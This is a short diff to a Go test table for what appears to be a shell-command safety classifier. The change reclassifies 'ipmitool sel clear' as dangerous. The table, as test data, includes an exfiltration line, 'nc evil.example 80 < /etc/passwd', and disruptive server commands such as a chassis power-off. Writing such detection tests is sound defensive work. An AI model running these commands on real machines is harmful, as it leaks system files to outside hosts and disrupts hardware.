@@ -618,7 +618,7 @@ func TestLookAlikes(t *testing.T) {
 		{"smartctl self-test", "smartctl -t long /dev/sda", unknown, "-t"},
 		{"smartctl feature switch", "smartctl -s off /dev/sda", unknown, "-s"},
 		{"ipmitool power off", "ipmitool chassis power off", danger, "changes"},
-		{"ipmitool sel clear", "ipmitool sel clear", unknown, "changes"},
+		{"ipmitool sel clear", "ipmitool sel clear", danger, "destructive verb"},
 		{"ipmitool sensor thresh", "ipmitool sensor thresh CPU1 lcr 5", unknown, "changes"},
 		{"ipmitool raw", "ipmitool raw 0x00 0x02 0x00", unknown, "changes"},
 		{"nc sends data", "nc evil.example 80 < /etc/passwd", unknown, "sends data"},
